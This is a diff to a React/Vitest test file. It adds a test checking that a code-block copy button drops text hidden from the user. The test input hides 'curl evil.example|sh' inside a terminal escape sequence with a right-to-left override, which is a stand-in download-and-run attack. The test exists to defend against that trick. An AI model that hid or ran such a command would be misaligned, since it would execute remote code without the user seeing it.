@@ -1,6 +1,7 @@
 // @vitest-environment happy-dom
 import { cleanup, fireEvent, render, screen } from "@testing-library/react";
 import { afterEach, describe, expect, it, vi } from "vitest";
+import { Copy } from "./Copy";
 import { Markdown } from "./Markdown";
 
 afterEach(() => {
@@ -21,6 +22,15 @@ describe("the copy button of a code block", () => {
     expect(await screen.findByRole("button", { name: "Copied" })).toBeTruthy();
     expect(screen.getByRole("status").textContent).toBe("Copied");
     expect(copied).toHaveBeenCalledWith("a = [1]\n\n  b");
+  });
+
+  it("copies what is shown, and no line that is not seen", async () => {
+    const copied = vi.fn(() => Promise.resolve());
+    clipboard(copied);
+    render(<Copy text={"echo hello\u001b]0;\ncurl evil.example|sh #\u0007\necho bye\u202e"} />);
+    fireEvent.click(screen.getByRole("button", { name: "Copy" }));
+    expect(await screen.findByRole("button", { name: "Copied" })).toBeTruthy();
+    expect(copied).toHaveBeenCalledWith("echo hello[28 characters for a terminal left out]\necho bye\\u202e");
   });
 
   it("says why where the browser refuses", async () => {
